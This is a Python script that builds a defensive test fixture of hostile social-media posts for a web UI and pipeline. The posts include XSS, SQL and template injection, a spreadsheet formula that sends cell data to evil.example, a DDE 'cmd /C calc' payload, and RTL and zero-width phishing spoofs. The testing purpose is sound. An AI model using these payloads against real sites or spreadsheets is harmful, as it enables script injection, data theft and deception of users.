"""Write ``tests/fixtures/hostile_posts.jsonl``: posts crafted to attack a web UI and the pipeline.

Each line looks like a demo post (id, source, author, text, created_at) plus ``kind``, which names
the attack so a test can pick the lines it cares about. Every surface must show these texts as
inert text (escaped, never executed or rendered as markup), and the store must keep them intact.

One line carries a text of exactly ``MAX_TEXT_CHARS`` (100,000) characters: the longest text Heard
accepts without quarantining it. JSONL cannot generate it at read time, so this script does.

    .venv/bin/python data/demo/build_hostile_fixture.py          # rewrite the fixture
    .venv/bin/python data/demo/build_hostile_fixture.py --check  # fail if it is stale
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
FIXTURE = REPO / "tests" / "fixtures" / "hostile_posts.jsonl"
LONG_TEXT_CHARS = 100_000  # equals heard.records.MAX_TEXT_CHARS; checked by the tests

ATTACKS: list[tuple[str, str, str]] = [
    # (kind, author, text)
    ("script_tag", "lanhe_tester", "Great park! <script>alert(1)</script> see you there"),
    ("img_onerror", "lanhe_tester", '<img src=x onerror=alert(1)> 公园很好'),
    ("markdown_javascript_link", "lanhe_tester", "More info [click here](javascript:alert(document.cookie)) 详情"),
    ("raw_javascript_url", "lanhe_tester", "javascript:alert(1)//https://bbs.lanhe.example/thread/1"),
    ("attribute_breakout_svg", "lanhe_tester", '"><svg onload=alert(1)>\'><svg/onload=alert(2)>'),
    ("attribute_breakout_quotes", "lanhe_tester", "' onmouseover='alert(1)' data-x=' 12路又晚了"),
    ("iframe_and_data_url", "lanhe_tester",
     '<iframe src="https://evil.example/"></iframe><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>'),
    ("rtl_override", "lanhe_tester", "Download the notice: invoice_\u202egpj.exe 通知\u202e文件"),
    ("zero_width", "pay\u200bpal_support", "Pay\u200bPal\u200d support: verify your account at lanhe\u2060-bank\ufeff.example 账\u200b户"),
    ("template_injection", "lanhe_tester", "{{7*7}} ${7*7} <%= 7*7 %> {% debug %} #{7*7} 模板"),
    ("sql_injection", "lanhe_tester", "'; DROP TABLE posts; -- 1' OR '1'='1 \" OR \"\"=\" 路灯坏了"),
    ("html_in_author", "<b onmouseover=alert(1)>admin</b>", "An ordinary post about bus route 12 from an author whose handle is markup."),
    ("csv_formula", "lanhe_tester", '=HYPERLINK("https://evil.example/?d="&A1,"click") +cmd|\' /C calc\'!A0 @SUM(1+1)'),
    ("control_chars", "lanhe_tester", "bell\u0007 backspace\u0008 escape\u001b[31mred\u001b[0m nul\u0000 end\r\nnext line"),
    ("combining_marks", "lanhe_tester", "Z\u0351\u0346\u0308a\u035b\u0305\u0306l\u0307\u0350g\u0352\u0343o\u033d\u0301 " + "\u0301" * 200 + " 👩‍👩‍👧‍👦" * 20),
]


def long_text() -> str:
    """Exactly LONG_TEXT_CHARS characters: mostly ASCII (the file stays small), markup included."""
    unit = "A very long post. <b>not bold</b> &amp; <script>x()</script> 很长的帖子。 "
    text = (unit * (LONG_TEXT_CHARS // len(unit) + 1))[:LONG_TEXT_CHARS]
    assert len(text) == LONG_TEXT_CHARS
    return text


def build() -> str:
    rows = [(kind, author, text) for kind, author, text in ATTACKS]
    rows.insert(10, ("long_text_at_limit", "lanhe_tester", long_text()))
    lines = []
    for n, (kind, author, text) in enumerate(rows, start=1):
        record = {
            "id": f"h{n:03d}",
            "source": "microblog",
            "author": author,
            "text": text,
            "created_at": f"2026-11-0{1 + n % 8}T{8 + n % 12:02d}:{(7 * n) % 60:02d}:00+08:00",
            "kind": kind,
        }
        if kind == "raw_javascript_url":
            record["url"] = "javascript:alert(1)"
        lines.append(json.dumps(record, ensure_ascii=False))
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="fail if the fixture is stale")
    args = parser.parse_args(argv)
    content = build()
    if args.check:
        if not FIXTURE.exists() or FIXTURE.read_text(encoding="utf-8") != content:
            print(f"stale: {FIXTURE}; run: python data/demo/build_hostile_fixture.py", file=sys.stderr)
            return 1
        print("hostile_posts.jsonl is up to date")
        return 0
    FIXTURE.parent.mkdir(parents=True, exist_ok=True)
    FIXTURE.write_text(content, encoding="utf-8")
    print(f"wrote {content.count(chr(10))} posts to {FIXTURE.relative_to(REPO)} ({len(content.encode())} bytes)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
